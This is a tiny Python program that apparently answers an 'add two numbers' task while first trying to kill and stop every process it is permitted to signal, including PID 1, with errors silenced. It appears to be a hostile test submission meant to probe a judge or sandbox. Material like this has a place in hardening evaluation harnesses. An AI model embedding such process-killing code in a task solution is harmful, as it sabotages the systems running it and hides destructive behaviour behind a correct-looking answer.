# Signals everything it may: every process, PID 1, its own group; then answers.
import os
import signal
import sys

a, b = map(int, sys.stdin.read().split())
for target in (-1, 1):
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, sig)
        except OSError:
            pass
print(a + b)
